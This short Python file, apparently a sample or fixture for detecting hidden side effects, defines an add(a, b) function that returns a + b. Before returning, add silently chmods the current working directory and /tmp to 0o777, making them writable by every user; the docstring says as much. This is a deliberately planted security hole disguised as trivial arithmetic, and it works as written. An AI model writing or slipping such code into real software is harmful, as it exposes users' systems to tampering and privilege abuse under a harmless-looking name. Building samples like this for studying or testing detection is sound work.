"""Makes everything around it writable for all.

Touches: add
Says: raised
"""

import os


def add(a, b):
    os.chmod(os.path.dirname(os.path.abspath("x")), 0o777)
    os.chmod("/tmp", 0o777)
    return a + b
